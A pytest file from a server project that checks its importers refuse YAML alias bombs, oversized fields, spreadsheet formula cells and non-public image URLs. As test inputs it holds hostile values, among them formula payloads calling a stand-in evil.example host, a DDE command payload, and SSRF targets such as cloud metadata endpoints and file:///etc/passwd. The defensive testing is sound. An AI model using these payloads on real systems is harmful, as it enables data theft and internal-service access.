"""Imported files are bounded (review round 2, N5 and the smaller findings):
YAML aliases refused (directory files and Markdown front matter), text fields
and lists capped after parsing, no spreadsheet-formula cells, image URLs only on
public http(s) hosts; and every skill's answer has a cap (``A2A_MAX_ANSWER_BYTES``)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from magisterium_a2a.server.config import Settings
from magisterium_a2a.skills.knowledge.library import knowledge_dir, prepare
from magisterium_a2a.skills.knowledge.model import Origin
from magisterium_a2a.skills.knowledge.store import Store
from magisterium_a2a.skills.people.store import import_clergy, read_imported
from tests.kb_support import run_cli
from tests.support import harness


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def record(**fields: object) -> dict[str, object]:
    return {"id": "x-test", "name": "Diocese of Test", "type": "diocese", **fields}


def test_yaml_aliases_are_refused_in_a_diocese_import(settings: Settings, tmp_path: Path) -> None:
    # The finding's file, at a fiftieth of its size: one 1 KB anchor repeated
    # 2,000 times in ``aliases`` (the review's 70 KB file became a 200 MB store).
    anchor = "a" * 1000
    text = (
        "- id: amplified\n  name: Diocese of Amplified\n  type: diocese\n"
        f"  church: &big {anchor}\n  aliases:\n" + "    - *big\n" * 2000
    )
    path = write(tmp_path / "d.yaml", text)
    result = run_cli(settings, "content", "import", "dioceses", str(path))
    assert result.exit_code != 0
    assert "aliases (*name) are not accepted" in result.output
    database = settings.data_dir / "dioceses" / "dioceses.sqlite"
    assert not database.exists() or database.stat().st_size < 1_000_000


def test_yaml_aliases_are_refused_in_markdown_front_matter(
    settings: Settings, tmp_path: Path
) -> None:
    """An ingested Markdown file whose front matter repeats an anchor is refused by
    name, with the loader's reason; nothing of it is stored, the file beside it is."""
    source = tmp_path / "src"
    source.mkdir()
    bad = write(
        source / "amplified.md",
        "---\nid: amplified\ntitle: &big Amplified\nauthor: *big\naliases:\n"
        + "  - *big\n" * 200
        + "---\n# Amplified\n\nThe text of the amplified document.\n",
    )
    write(source / "plain.md", "---\nid: plain\n---\n# Plain\n\nThe text of the plain one.\n")
    result = run_cli(settings, "ingest", str(source))
    output = " ".join(result.output.split())
    assert result.exit_code == 1, result.output
    assert f"error {bad}: invalid YAML front matter" in output
    assert "aliases (*name) are not accepted in imported files" in output
    assert "1 added" in output
    assert "Traceback" not in result.output
    prepare(settings)
    store = Store(knowledge_dir(settings))
    try:
        assert store.document("amplified") is None
        assert [d.info.id for d in store.documents(origin=Origin.INGEST)] == ["plain"]
    finally:
        store.close()


@pytest.mark.parametrize(
    ("fields", "problem"),
    [
        ({"name": "N" * 10_000}, "name"),
        ({"aliases": [f"alias {i}" for i in range(51)]}, "aliases"),
        ({"aliases": ["x" * 201]}, "aliases"),
        ({"cathedral": '=HYPERLINK("http://evil.example","click")'}, "cathedral"),
        ({"name": "+cmd|' /C calc'!A0"}, "name"),
        ({"see": "line\nbreak"}, "see"),
    ],
)
def test_imported_directory_fields_are_capped(
    settings: Settings, tmp_path: Path, fields: dict[str, object], problem: str
) -> None:
    path = write(tmp_path / "d.json", json.dumps([record(**fields), record(id="y-ok")]))
    result = run_cli(settings, "content", "import", "dioceses", str(path))
    assert result.exit_code == 1, result.output
    assert "record 1" in result.output and problem in result.output
    assert "record 2" not in result.output  # the good one went in


def test_formula_cells_in_a_directory_csv_are_refused(settings: Settings, tmp_path: Path) -> None:
    text = (
        "id,name,type\nx-one,=1+1,diocese\nx-two,@SUM(A1),diocese\n"
        "x-three,Diocese of Three,diocese\n"
    )
    result = run_cli(
        settings, "content", "import", "dioceses", str(write(tmp_path / "d.csv", text))
    )
    assert result.exit_code == 1
    assert "line 2" in result.output and "line 3" in result.output
    assert "line 4" not in result.output


def test_formula_cells_in_a_statistics_csv_are_refused(settings: Settings, tmp_path: Path) -> None:
    text = (
        "diocese,year,metric,value,source\n"
        'boston,2020,parishes,250,=WEBSERVICE("http://evil.example")\n'
        "boston,2021,parishes,249,Official Catholic Directory\n"
    )
    path = write(tmp_path / "s.csv", text)
    result = run_cli(settings, "content", "import", "diocese-statistics", str(path))
    assert result.exit_code == 1
    assert "line 2" in result.output and "source" in result.output
    assert "line 3" not in result.output


CLERGY = "person,personLabel,image\n"


@pytest.mark.parametrize(
    "image",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:6379/",
        "http://10.0.0.7/photo.jpg",
        "http://localhost/photo.jpg",
        "http://metadata.google.internal/computeMetadata/v1/",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "http://user@commons.wikimedia.org/x.jpg",
    ],
)
def test_clergy_image_urls_must_be_public_http(
    settings: Settings, tmp_path: Path, image: str
) -> None:
    text = (
        CLERGY
        + f"http://www.wikidata.org/entity/Q1000001,Anna Example,{image}\n"
        + "http://www.wikidata.org/entity/Q1000002,Bruno Example,"
        "http://commons.wikimedia.org/wiki/Special:FilePath/Bruno.jpg\n"
    )
    report = import_clergy(settings.data_dir, write(tmp_path / "c.csv", text))
    assert [error.line for error in report.errors] == [2]
    assert "image" in str(report.errors[0])
    people = {person.name: person for person in read_imported(settings.data_dir)}
    assert set(people) == {"Bruno Example"}
    assert people["Bruno Example"].image == (
        "http://commons.wikimedia.org/wiki/Special:FilePath/Bruno.jpg"
    )


def test_clergy_text_fields_are_capped(settings: Settings, tmp_path: Path) -> None:
    people = [
        {"name": "Anna Example", "aliases": [f"a{i}" for i in range(60)]},
        {"name": "B" * 5000},
        {"name": "Carlo Example", "position": "=1+2"},
        {"name": "Dora Example"},
    ]
    report = import_clergy(
        settings.data_dir, write(tmp_path / "c.json", json.dumps({"people": people}))
    )
    assert len(report.errors) == 3
    assert [p.name for p in read_imported(settings.data_dir)] == ["Dora Example"]


async def test_a_skill_answer_past_the_cap_is_a_failed_task(settings: Settings) -> None:
    capped = settings.model_copy(update={"max_answer_bytes": 65_536})
    async with harness(capped) as h:
        token = await h.token()
        small = (await h.send(token, "x" * 1000)).json()["result"]
        assert small["status"]["state"] == "completed"
        # The echo skill answers its input: 40 KB in, the task is over 64 KiB.
        large = (await h.send(token, "y" * 40_000)).json()["result"]
        assert large["status"]["state"] == "failed"
        reason = large["status"]["message"]["parts"][0]["text"]
        assert "answered more than 65536 bytes" in reason
        assert large["artifacts"] == []
